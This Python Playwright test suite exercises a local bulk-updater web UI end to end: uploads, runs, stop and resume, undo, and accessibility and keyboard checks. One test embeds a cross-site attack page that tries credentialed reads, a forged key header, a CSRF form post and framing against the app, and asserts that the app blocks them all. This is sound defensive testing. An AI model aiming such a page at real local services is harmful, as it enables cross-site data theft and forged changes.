"""The web page end to end, in headless Chromium from Debian (driven by Playwright), against the sandbox.

Skipped when /usr/bin/chromium is absent, unless BULK_UPDATER_REQUIRE_BROWSER is set
(CI sets it: there a skip is a failure). The whole story, and docs/ui.png, are test_ui_story.py's.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from conftest import new_ids, untouched, write_csv

from bulk_updater import demo
from bulk_updater.checking import check as check_sheet
from bulk_updater.ui import UiThread
from bulk_updater.ui.guard import KEY_HEADER

pytestmark = pytest.mark.e2e

CHROMIUM = Path("/usr/bin/chromium")
ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "bulk_updater" / "demo" / "activities.csv"  # the demo's sheet, shipped in the package
LAUNCH_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
               "--disable-component-update", "--disable-sync"]
WAIT = 60_000  # ms; generous for a busy 2-core machine


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        reason = f"{CHROMIUM} is absent (apt-get install chromium)"
        if os.environ.get("BULK_UPDATER_REQUIRE_BROWSER"):
            pytest.fail(f"the browser tests must run here, but {reason}")
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def ui(tmp_path):
    started = []

    def start(box) -> UiThread:
        environ = {"LSQ_HOST": box.url, "LSQ_ACCESS_KEY": box.config.access_key, "LSQ_SECRET_KEY": box.config.secret_key}
        server = UiThread(tmp_path / "workspace", environ).__enter__()
        started.append(server)
        return server

    yield start
    for server in started:
        server.__exit__(None, None, None)


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1000, "height": 900})
    page = context.new_page()
    blocked: list[str] = []  # what the page's own Content-Security-Policy refused: the page must need nothing it refuses
    page.on("console", lambda message: blocked.append(message.text) if "Content Security Policy" in message.text else None)
    yield page
    context.close()
    assert not blocked, blocked


def upload_and_check(page, server: UiThread, sheet: Path) -> None:
    page.goto(server.url)
    page.set_input_files("#sheet", str(sheet))
    page.click("#upload")
    page.click("#to-check")


def connect_and_start(page, rate: str, backup: bool = False) -> None:
    page.click("#to-connect")
    page.click("#check-keys")  # the keys and host given at launch
    page.wait_for_selector("#who-org")
    page.click("#to-next")
    page.fill("#rate", rate)
    if backup:
        page.check("#backup")
    page.click("#to-confirm")
    assert page.inner_text("#confirmation").startswith("About to update ")
    page.click("#start")


def wait_for(page, condition: str, timeout: int = WAIT) -> None:
    """Poll a JavaScript expression (page.wait_for_function evaluates a string, which the page's CSP forbids)."""
    deadline = time.monotonic() + timeout / 1000
    while not page.evaluate(condition):
        assert time.monotonic() < deadline, f"still not true after {timeout / 1000:g} s: {condition}"
        page.wait_for_timeout(100)


def run_folders(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "workspace" / "runs").iterdir())


def summary_of(folder: Path) -> dict:
    return json.loads((folder / "summary.json").read_text())


def test_a_sheet_from_upload_to_results_download_and_retry(page, ui, sandbox, tmp_path):
    # The sample activities with their notes and fields: the canary's first check decides.
    initial = demo.sandbox_activities()
    box = sandbox(activities=set(initial), initial=initial, latency=(0.05, 0.2))
    server = ui(box)
    expected = check_sheet(SAMPLE)
    upload_and_check(page, server, SAMPLE)
    assert int(page.inner_text("#check-will-update")) == expected.will_update
    assert int(page.inner_text("#check-invalid")) == expected.invalid
    assert int(page.inner_text("#check-skipped")) == expected.skipped
    connect_and_start(page, "100/1")
    # live: the counts reach the totals, then the page turns into the results
    wait_for(page, "document.getElementById('total') && +document.getElementById('total').textContent > 0 && "
                           "document.getElementById('done').textContent === document.getElementById('total').textContent", timeout=WAIT)
    page.wait_for_selector("#results", timeout=WAIT)
    [first] = run_folders(tmp_path)
    summary = summary_of(first)
    assert summary["rows"] == expected.rows
    shown = page.inner_text("#summary-line")
    for name, count in summary["counts"].items():
        if count:
            assert f"{count} {name}" in shown
    with page.expect_download() as download:
        page.click("#downloads >> text=report.csv")
    assert Path(download.value.path()).read_bytes() == (first / "report.csv").read_bytes()
    needs_look = summary["rows"] - summary["counts"]["success"] - summary["counts"]["skipped"]
    assert needs_look > 0
    page.click("#retry")
    assert page.inner_text("#confirmation").startswith("About to update")  # the retry's confirmation: nothing sent yet
    page.click("#confirm-retry")
    page.wait_for_selector("#results", timeout=WAIT)
    second = [folder for folder in run_folders(tmp_path) if folder != first][0]
    assert summary_of(second)["rows"] == needs_look
    assert json.loads((second / "run.json").read_text())["command"] == "retry"


def test_stop_with_the_button_then_resume_from_the_home_page(page, ui, sandbox, tmp_path):
    ids = new_ids(150)
    unknown = set(ids[5:10])  # a few rows fail, so the screen shows a failure group
    box = sandbox(activities=set(ids) - unknown, initial=untouched(ids[:5]))  # the first check decides: rows go at the rate
    server = ui(box)
    sheet = write_csv(tmp_path / "many.csv", [["CompanyActivityId", "Status", "mx_Custom_1"], *[[i, "Won", n] for n, i in enumerate(ids)]])
    upload_and_check(page, server, sheet)
    connect_and_start(page, "20/1")
    wait_for(page, "document.getElementById('done') && +document.getElementById('done').textContent >= 20")
    run_address = page.url
    # Leaving the page (or closing the tab) does not stop the run; the home page lists it, and it shows again.
    page.goto(server.base + "/")
    assert "running now" in page.inner_text("#runs")
    page.goto(run_address)
    wait_for(page, "document.getElementById('done') && +document.getElementById('done').textContent >= 40")
    assert "About to update 150 rows (150 activities)" in page.inner_text("#confirmation")
    assert "failed" in page.inner_text("#groups")
    page.click("#stop")
    page.wait_for_selector("#resume", timeout=WAIT)
    [folder] = run_folders(tmp_path)
    stopped = summary_of(folder)
    assert stopped["stop_reason"] == "stopped" and stopped["counts"]["not_sent"] > 0
    page.goto(server.base + "/")
    row = page.locator(f"#runs tr[data-run='{folder.name}']")
    assert "stopped" in row.inner_text()
    row.locator("button.resume").click()
    page.wait_for_selector("#results", timeout=WAIT)
    finished = summary_of(folder)
    assert finished["rows"] == len(ids) and finished["counts"]["success"] == len(ids) - len(unknown)
    assert finished["counts"]["failed"] == len(unknown) and finished["resumed"] > 0
    assert set(box.state.applied) == set(ids) - unknown
    page.goto(server.base + "/")
    assert "finished" in page.locator(f"#runs tr[data-run='{folder.name}']").inner_text()


def test_a_backup_run_verifies_all_matching_then_undo_restores_the_sandbox(page, ui, sandbox, tmp_path):
    ids = new_ids(6)
    initial = {i: {"ActivityNote": "as it was", "Fields": {"Status": "Open", "mx_Custom_1": str(n)}} for n, i in enumerate(ids)}
    box = sandbox(initial=json.loads(json.dumps(initial)))
    server = ui(box)
    sheet = write_csv(tmp_path / "edits.csv", [["CompanyActivityId", "Status", "mx_Custom_1"], *[[i, "Won", "changed"] for i in ids]])
    before = json.loads(json.dumps(box.state.activities))
    upload_and_check(page, server, sheet)
    connect_and_start(page, "100/1", backup=True)
    page.wait_for_selector("#results", timeout=WAIT)
    [run] = run_folders(tmp_path)
    assert summary_of(run)["counts"]["success"] == len(ids) and (run / "undo.csv").is_file()
    assert all(box.state.activities[i]["Fields"] == {"Status": "Won", "mx_Custom_1": "changed"} for i in ids)
    page.click("#verify")
    for _ in range(60):  # the page refreshes itself while verify runs
        if page.locator("#verify-counts").count():
            break
        page.wait_for_timeout(500)
    assert page.inner_text("#verify-counts") == f"{len(ids)} match, 0 mismatch, 0 error"
    with page.expect_download() as download:
        page.click("#downloads >> text=verify.csv")
    assert Path(download.value.path()).read_bytes() == (run / "verify.csv").read_bytes()
    page.click("#undo")
    assert "About to update 6 rows (6 activities)" in page.inner_text("#confirmation")  # before anything is sent
    page.click("#confirm-undo")
    page.wait_for_selector("#results", timeout=WAIT)
    assert "About to update 6 rows (6 activities)" in page.inner_text("#confirmation")
    undone = [folder for folder in run_folders(tmp_path) if folder != run][0]
    assert summary_of(undone)["counts"]["success"] == len(ids)
    assert box.state.activities == before


def test_a_refused_file_shows_its_message_and_offers_no_way_on(page, ui, sandbox, tmp_path):
    server = ui(sandbox())
    sheet = write_csv(tmp_path / "no-id.csv", [["Status", "mx_Custom_1"], ["Won", "7"]])
    upload_and_check(page, server, sheet)
    refusal = page.inner_text("#refusal")
    assert refusal.startswith("Error: ") and "CompanyActivityId" in refusal
    assert page.locator("#to-connect").count() == 0
    screens = Screens(page)
    screens.look("a refused file")
    page.goto(server.base + "/runs/no-such-run")  # the script's own error screen
    page.wait_for_selector("#refusal")
    screens.look("no such run")
    screens.assert_none()


def test_the_page_refuses_a_browser_without_the_token(browser, ui, sandbox):
    server = ui(sandbox())
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(server.base + "/")  # the shell: no data, and no key to load any with
        assert "printed" in page.inner_text("#refusal") and page.locator("#runs").count() == 0
        page.goto(server.url)  # the printed address: the key, kept by the page and gone from the address bar
        page.wait_for_selector("h1")
        assert page.url == server.base + "/" and "Runs in this workspace" in page.inner_text("main")
        assert context.cookies() == []
    finally:
        context.close()


class OtherLocalServer:
    """Another server on another loopback port, as any local tool the browser visits: it records every request
    the browser sends it, and its page tries to read and change the bulk-updater page at `target`."""

    def __init__(self, target: str) -> None:
        import http.server
        import threading

        self.received: list[dict[str, str]] = []
        self.results: dict = {}
        page = ATTACK_PAGE.replace("TARGET", target).encode()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.received.append(dict(self.headers))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                outer.received.append(dict(self.headers))
                outer.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()


# What another local page can try: read ours with the browser's credentials, send the key header without
# knowing it, post a form, and frame the page.
ATTACK_PAGE = """<!doctype html><title>another local tool</title>
<iframe id="framed" src="TARGET/"></iframe>
<iframe name="sink"></iframe>
<form id="change" method="post" action="TARGET/connect" target="sink"><input name="region" value="sg"></form>
<script>
async function attempt(name, make) {
  try { const r = await make(); return [name, r.type + " " + r.status + " " + (r.type === "opaque" ? "" : (await r.text()).slice(0, 200))]; }
  catch (e) { return [name, "blocked: " + e.name]; }
}
(async () => {
  document.getElementById("change").submit();
  const tries = await Promise.all([
    attempt("read", () => fetch("TARGET/", {credentials: "include"})),
    attempt("read opaque", () => fetch("TARGET/", {credentials: "include", mode: "no-cors"})),
    attempt("send a key", () => fetch("TARGET/connect", {method: "POST", credentials: "include", headers: {"X-Bulk-Updater-Key": "a guess"}})),
    attempt("post", () => fetch("TARGET/connect", {method: "POST", credentials: "include", mode: "no-cors", body: new URLSearchParams({region: "sg"})})),
  ]);
  await new Promise(done => setTimeout(done, 1500));  // the form's answer and the frame's
  await fetch("/results", {method: "POST", body: JSON.stringify(Object.fromEntries(tries))});
})();
</script>"""


def plain(method: str, url: str, headers: dict[str, str], form: dict[str, str] | None = None) -> tuple[int, str]:
    """One request, no redirect followed (http.client: the sync browser API runs its own event loop)."""
    import http.client
    import urllib.parse

    parts = urllib.parse.urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    body = urllib.parse.urlencode(form) if form is not None else None
    if body is not None:
        headers = {**headers, "Content-Type": "application/x-www-form-urlencoded"}
    connection.request(method, parts.path + (f"?{parts.query}" if parts.query else ""), body=body, headers=headers)
    response = connection.getresponse()
    try:
        return response.status, response.read().decode("utf-8", "replace")
    finally:
        connection.close()


def test_another_local_port_receives_nothing_that_works(browser, ui, sandbox, tmp_path):
    server = ui(sandbox())
    context = browser.new_context()
    other = OtherLocalServer(server.base)
    try:
        page = context.new_page()
        page.goto(server.url)  # the admin opened the page: it holds the key now
        page.set_input_files("#sheet", str(write_csv(tmp_path / "edits.csv", [["CompanyActivityId", "Status"], [new_ids(1)[0], "Won"]])))
        page.click("#upload")
        page.wait_for_selector("#to-check")
        sheet_address = page.url
        page.goto(other.url)  # then visited another local tool, in the same browser
        wait_for(page, "document.title === 'another local tool'")
        for _ in range(100):
            if other.results:
                break
            page.wait_for_timeout(100)
        # the other port received no cookie, nor the key, in any request
        assert other.received and all("Cookie" not in headers for headers in other.received)
        assert all(server.token not in value for headers in other.received for value in headers.values())
        # and what it received gets nothing from ours: no data to read, no change made
        for headers in other.received:
            sent = {name: value for name, value in headers.items() if name.lower() not in ("host", "content-length", "origin")}
            status, body = plain("GET", sheet_address, sent)
            assert status == 200 and "Sheet:" not in body and "edits.csv" not in body  # the shell, no data
            status, _ = plain("POST", sheet_address, {**sent, "Origin": server.base}, {"action": "pick"})
            assert status == 403
        # its page could read nothing, send nothing, and not frame ours
        results = other.results
        assert results["read"].startswith("blocked") and results["send a key"].startswith("blocked")
        assert results["read opaque"].startswith(("blocked", "opaque 0")) and results["post"].startswith(("blocked", "opaque 0"))
        # the frame of ours and the form's answer were refused (X-Frame-Options DENY, frame-ancestors 'none')
        frames = [frame for frame in page.frames if frame is not page.main_frame]
        assert len(frames) == 2 and all(frame.url.startswith("chrome-error:") for frame in frames), [frame.url for frame in frames]
        assert 'id="who-org"' not in plain("GET", server.base + "/connect", {KEY_HEADER: server.token})[1]  # its form connected nothing
    finally:
        other.close()
        context.close()


# --- every screen: axe-core, 390 px, the keyboard alone, a reload ----------------------------------------------

AXE = ROOT / "tests" / "vendor" / "axe-core" / "axe.min.js"  # a test asset (see its README.md): the app never serves it
SERIOUS = ("serious", "critical")
PHONE = {"width": 390, "height": 844}
# English that a count of one reads wrong in.
WRONG_PLURAL = r"(?<![\d,.])1 (rows|duplicate ids|activities|failures)\b"


def accessibility_violations(page) -> list[str]:
    """axe-core's serious and critical violations on the screen shown. axe is evaluated through the browser's
    DevTools protocol, not added as a <script>: the page's own Content-Security-Policy stays as it is."""
    if not page.evaluate("typeof window.axe !== 'undefined'"):
        page.evaluate(AXE.read_text(encoding="utf-8"))
    result = page.evaluate("() => axe.run(document, {resultTypes: ['violations']})")
    return [f"{v['id']} ({v['impact']}): {v['help']}: {[node['target'] for node in v['nodes']][:4]}"
            for v in result["violations"] if v["impact"] in SERIOUS]


# What sticks out of a 390 px wide page: the page scrolling sideways, or an element past its right edge that
# is not inside a container scrolling on its own (a wide table may scroll in its own box).
SPILL = """() => {
  const width = document.documentElement.clientWidth;
  const own = el => { for (let a = el.parentElement; a && a !== document.body; a = a.parentElement) {
    const o = getComputedStyle(a).overflowX; if (o === 'auto' || o === 'scroll') return true; } return false; };
  const spilled = [];
  for (const el of document.body.querySelectorAll('*')) {
    const box = el.getBoundingClientRect();
    if (box.width <= 1 || box.height <= 1 || own(el)) continue;  // also what is there for screen readers only
    const style = getComputedStyle(el);
    const cut = (style.overflowX === 'hidden' || style.overflowX === 'clip') && el.scrollWidth > el.clientWidth + 1;
    if (box.right > width + 1 || box.left < -1 || cut) spilled.push(el.tagName.toLowerCase() + (el.id ? '#' + el.id : '') + ' ' + Math.round(box.left) + '..' + Math.round(box.right));
  }
  return {scrolls: document.documentElement.scrollWidth > width, width, spilled: spilled.slice(0, 8)};
}"""


def at_390(page) -> tuple[dict | None, list[str]]:
    """The screen at 390 px wide: what sticks out (None when nothing does), and axe's findings there (a table
    that scrolls in its box must be reachable with the keyboard). The viewport is set back after."""
    before = page.viewport_size
    page.set_viewport_size(PHONE)
    try:
        found = page.evaluate(SPILL)
        violations = accessibility_violations(page)
    finally:
        page.set_viewport_size(before)
    return (found if found["scrolls"] or found["spilled"] else None), violations


def spill_at_390(page) -> dict | None:
    return at_390(page)[0]


class Screens:
    """Each screen's axe findings, its spill at 390 px and its wrong plurals, gathered so one run of the
    tour names every screen that fails, not only the first."""

    def __init__(self, page) -> None:
        self.page, self.problems = page, {}

    def look(self, name: str) -> None:
        import re

        wait_for(self.page, "!document.querySelector('main[aria-busy]') && !document.getElementById('loading')")
        found = {}
        if violations := accessibility_violations(self.page):
            found["axe"] = violations
        spilled, narrow = at_390(self.page)
        if spilled:
            found["390px"] = spilled
        if narrow:
            found["axe at 390px"] = narrow
        if plurals := re.findall(WRONG_PLURAL, self.page.inner_text("body")):
            found["plural"] = plurals
        if found:
            self.problems[name] = found

    def assert_none(self) -> None:
        assert self.problems == {}, json.dumps(self.problems, indent=1)


def tour_sheet(tmp_path: Path, ids: list[str]) -> Path:
    """40 rows: the third names an activity the sandbox lacks (one failed row, one group), the last
    names the first's activity again (one duplicate id)."""
    rows = [[i, "Won", str(n)] for n, i in enumerate(ids)] + [[ids[0], "Won", "again"]]
    return write_csv(tmp_path / "tour.csv", [["CompanyActivityId", "Status", "mx_Custom_1"], *rows])


def shown_run(page) -> dict:
    """The run screen's numbers as drawn, read at one instant."""
    return page.evaluate("""() => {
      const text = id => (document.getElementById(id) || {}).innerText;
      const line = document.querySelector('#chart polyline');
      const chart = document.getElementById('chart');
      return {progress: (text('progress-line') || '').replace(/\\s+/g, ' ').trim(), done: +text('done'), total: +text('total'),
              bar: [document.getElementById('bar').value, document.getElementById('bar').max],
              counts: Object.fromEntries([...document.querySelectorAll('[id^=count-]')].map(c => [c.id.slice(6), +c.textContent])),
              groups: [...document.querySelectorAll('#groups tbody tr')].map(r => [...r.cells].map(c => c.innerText)),
              points: line ? line.getAttribute('points').trim().split(/\\s+/).length : 0,
              seconds: chart ? +chart.dataset.seconds : 0,
              summary: (text('summary-line') || '').replace(/\\s+/g, ' ').trim()};
    }""")


def assert_drawn_from_the_folder(page, folder: Path, words: str) -> None:
    """A run's screen after a reload: the numbers of summary.json, the stop reason in words, the bar, the
    failure groups and the whole run's chart of pace.json; nothing empty."""
    summary = summary_of(folder)
    pace = json.loads((folder / "pace.json").read_text())
    counts = summary["counts"]
    done = summary["rows"] - counts["not_sent"]
    noun = "row" if summary["rows"] == 1 else "rows"
    expected = f"{done} of {summary['rows']} {noun} done · {words}" + (f" · {counts['not_sent']} not sent" if counts["not_sent"] else "")
    shown = shown_run(page)
    assert shown["progress"] == expected, shown
    assert shown["bar"] == [done, summary["rows"]] and shown["counts"] == counts, shown
    groups = [[str(g["rows"]), g["outcome"], ": ".join(filter(None, [g["error_type"], g["error_message"]]))] for g in summary["failure_groups"]]
    assert any(group[1] == "failed" for group in groups) and shown["groups"] == groups, shown["groups"]
    assert shown["points"] == len(pace["series"]) > 0 and shown["seconds"] == pace["seconds"], (shown, pace)
    if summary.get("stop_reason"):
        assert f"({words})" in shown["summary"]


def test_every_screen_passes_axe_fits_390_px_and_is_whole_after_a_reload(browser, page, ui, sandbox, tmp_path):
    ids = new_ids(40)
    missing = ids[2]
    box = sandbox(activities=set(ids) - {missing}, initial=untouched(ids), rate=None)
    server = ui(box)
    screens = Screens(page)
    # without the key: the page says where to find it
    bare = browser.new_context()
    try:
        keyless = bare.new_page()
        keyless.goto(server.base + "/")
        keyless.wait_for_selector("#refusal")
        Screens.look(screens_of := Screens(keyless), "no key")
        screens.problems.update(screens_of.problems)
    finally:
        bare.close()
    page.goto(server.url)
    screens.look("home, no runs")
    page.set_input_files("#sheet", str(write_csv(tmp_path / "notes.pdf", [["a"]])))
    page.click("#upload")
    page.wait_for_selector("#problem")
    screens.look("an error page")
    page.goto(server.base + "/")
    page.set_input_files("#sheet", str(tour_sheet(tmp_path, ids)))
    page.click("#upload")
    page.wait_for_selector("#to-check")
    screens.look("sheet")
    page.click("#to-check")
    page.wait_for_selector("#check-counts")
    assert page.inner_text("#check-duplicates") == "1"
    screens.look("check")
    page.click("#to-connect")
    page.wait_for_selector("#check-keys")
    screens.look("connection")
    page.click("#check-keys")
    page.wait_for_selector("#who-org")
    screens.look("connection, keys checked")
    page.click("#to-next")
    page.wait_for_selector("#rate")
    screens.look("options")
    page.fill("#rate", "8/1")
    page.check("#backup")
    page.click("#to-confirm")
    page.wait_for_selector("#start")
    screens.look("confirm")
    page.click("#start")
    wait_for(page, "document.getElementById('done') && +document.getElementById('done').textContent >= 6")
    screens.look("run in progress")
    [folder] = run_folders(tmp_path)
    page.reload()
    wait_for(page, "document.getElementById('done') && +document.getElementById('done').textContent >= 8 && "
                   "document.querySelector('#chart polyline') && document.querySelector('#groups tbody tr')")
    running = shown_run(page)
    assert running["total"] == 41 and running["bar"] == [running["done"], 41] and sum(running["counts"].values()) >= 8, running
    assert running["progress"] == f"{running['done']} of 41 rows done · running" and running["groups"][0][1] == "failed", running
    page.click("#stop")
    page.wait_for_selector("#resume", timeout=WAIT)
    screens.look("stopped run")
    page.reload()
    page.wait_for_selector("#resume")
    assert_drawn_from_the_folder(page, folder, "stopped by you")
    stopped_pace = json.loads((folder / "pace.json").read_text())
    page.click("#resume")
    page.wait_for_selector("#retry", timeout=WAIT)
    screens.look("finished run")
    page.reload()
    page.wait_for_selector("#retry")
    assert_drawn_from_the_folder(page, folder, "finished")
    pace = json.loads((folder / "pace.json").read_text())  # the chart: both sessions, the stopped one first
    assert pace["bucket"] == 1 and pace["series"][:len(stopped_pace["series"])] == stopped_pace["series"] and pace["seconds"] > stopped_pace["seconds"]
    assert "1 row needs another look" in page.inner_text("#results")
    page.click("#retry")
    page.wait_for_selector("#confirm-retry")
    assert "About to update 1 row (1 activity)" in page.inner_text("#confirmation")
    screens.look("retry confirm")
    page.click("#confirm-retry")
    page.wait_for_selector("#results", timeout=WAIT)
    screens.look("a one-row retry, finished")
    retried = [other for other in run_folders(tmp_path) if other != folder][0]
    page.reload()
    page.wait_for_selector("#results")
    assert_drawn_from_the_folder(page, retried, "finished")
    assert shown_run(page)["progress"] == "1 of 1 row done · finished"
    page.goto(f"{server.base}/runs/{folder.name}")
    page.wait_for_selector("#verify")
    page.click("#verify")
    page.wait_for_selector("#verify-counts", timeout=WAIT)
    screens.look("verified")
    page.click("#undo")
    page.wait_for_selector("#confirm-undo")
    screens.look("undo confirm")
    page.goto(server.base + "/")
    screens.look("home, with runs")
    invalid = [["CompanyActivityId", "Status", "mx_Custom_1"], ["", "Won", "1"], ["not-an-id-" + "x" * 60, "Won", "2"], [ids[0], "Won", "3"]]
    page.set_input_files("#sheet", str(write_csv(tmp_path / "invalid.csv", invalid)))
    page.click("#upload")
    page.click("#to-check")
    page.wait_for_selector("#invalid-rows")
    screens.look("check, with invalid rows")
    screens.assert_none()


# The focused element, and whether it shows where the keyboard is: the :focus-visible ring the page's style
# gives (an outline of 2 px or more, or a shadow), not merely the browser's default.
FOCUS = """selector => {
  const el = document.activeElement;
  if (!el || el === document.body || el === document.documentElement) return {on: false, seen: true, what: 'the page'};
  const style = getComputedStyle(el);
  const ring = (style.outlineStyle !== 'none' && parseFloat(style.outlineWidth) >= 2) || style.boxShadow !== 'none';
  const box = el.getBoundingClientRect();
  const inView = box.bottom > 0 && box.top < innerHeight && box.right > 0 && box.left < innerWidth;
  return {on: el.matches(selector), seen: el.matches(':focus-visible') && ring && inView, what: el.outerHTML.slice(0, 100)};
}"""


def tab_to(page, selector: str, back: bool = False, most: int = 60) -> None:
    """Tab (or Shift-Tab) until `selector` has the focus, each stop on the way showing its focus ring."""
    for _ in range(most):
        page.keyboard.press("Shift+Tab" if back else "Tab")
        focus = page.evaluate(FOCUS, selector)
        assert focus["seen"], f"the focus can't be seen on {focus['what']}"
        if focus["on"]:
            return
    raise AssertionError(f"{selector} can't be reached with {'Shift-Tab' if back else 'Tab'}")


def press_on(page, selector: str, key: str = "Enter", back: bool = False) -> None:
    tab_to(page, selector, back)
    page.keyboard.press(key)


def test_the_main_flow_with_the_keyboard_alone_at_390_px(browser, ui, sandbox, tmp_path):
    ids = new_ids(40)
    box = sandbox(activities=set(ids) - {ids[2]}, initial=untouched(ids), rate=None)
    server = ui(box)
    context = browser.new_context(viewport=PHONE)
    try:
        page = context.new_page()
        page.goto(server.url)
        page.wait_for_selector("#sheet")
        tab_to(page, "#sheet")
        with page.expect_file_chooser() as chooser:
            page.keyboard.press("Space")
        chooser.value.set_files(str(tour_sheet(tmp_path, ids)))
        press_on(page, "#upload")
        page.wait_for_selector("#to-check")
        press_on(page, "#to-check")
        page.wait_for_selector("#to-connect")
        press_on(page, "#to-connect")
        page.wait_for_selector("#check-keys")
        press_on(page, "#check-keys")
        page.wait_for_selector("#to-next")
        press_on(page, "#to-next")
        page.wait_for_selector("#rate")
        tab_to(page, "#rate")
        page.keyboard.press("Control+A")
        page.keyboard.type("8/1")
        press_on(page, "#backup", "Space")
        assert page.is_checked("#backup")
        press_on(page, "#to-confirm")
        page.wait_for_selector("#start")
        press_on(page, "#start")
        wait_for(page, "document.getElementById('done') && +document.getElementById('done').textContent >= 4")
        press_on(page, "#stop")
        page.wait_for_selector("#resume", timeout=WAIT)
        assert spill_at_390(page) is None
        press_on(page, "#resume")
        page.wait_for_selector("#retry", timeout=WAIT)
        press_on(page, "#retry")
        page.wait_for_selector("#confirm-retry")
        tab_to(page, "#confirm-retry")  # reachable; then back to the run without retrying
        press_on(page, "main form a[href^='/runs/']", back=True)  # Back
        page.wait_for_selector("#verify")
        press_on(page, "#verify")
        page.wait_for_selector("#verify-counts", timeout=WAIT)
        assert page.inner_text("#verify-counts") == "39 match, 0 mismatch, 0 error"
        press_on(page, "#undo")
        page.wait_for_selector("#confirm-undo")
        assert "About to update 39 rows (39 activities)" in page.inner_text("#confirmation")
        press_on(page, "#confirm-undo")
        page.wait_for_selector("#results", timeout=WAIT)
        assert spill_at_390(page) is None
        undone = [folder for folder in run_folders(tmp_path) if json.loads((folder / "run.json").read_text())["command"] == "undo"]
        assert len(undone) == 1 and summary_of(undone[0])["counts"]["success"] == 39
        assert accessibility_violations(page) == []  # the undo's results
    finally:
        context.close()
